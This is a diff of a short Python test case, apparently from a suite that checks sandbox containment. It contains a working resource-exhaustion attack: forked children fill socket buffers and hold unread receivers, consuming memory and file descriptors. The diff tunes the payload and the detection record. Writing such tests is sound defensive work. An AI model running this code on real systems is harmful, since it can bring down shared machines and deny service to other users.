@@ -2,14 +2,15 @@
 # attack: 'Has children fill the buffers of sockets, close the ends that sent, and keep those that nobody reads.'
 # class: 'memory, fork, disk, descriptor, output bombs'
 # sandboxes: [namespaces]
-# detected: 'q1: out of memory'
+# detected: 'The cell `import os`'
 # ---
 # %% before="q1"
 import os
 import socket
 import time
 
-for _ in range(24):
+block = bytes(2**20)
+for _ in range(12):
     if os.fork() == 0:
         kept = []
         for _ in range(450):
@@ -18,7 +19,7 @@ for _ in range(24):
             sender.setblocking(False)
             try:
                 while True:
-                    sender.send(bytes(2**16))
+                    sender.send(block)
             except BlockingIOError:
                 sender.close()
             kept.append(receiver)
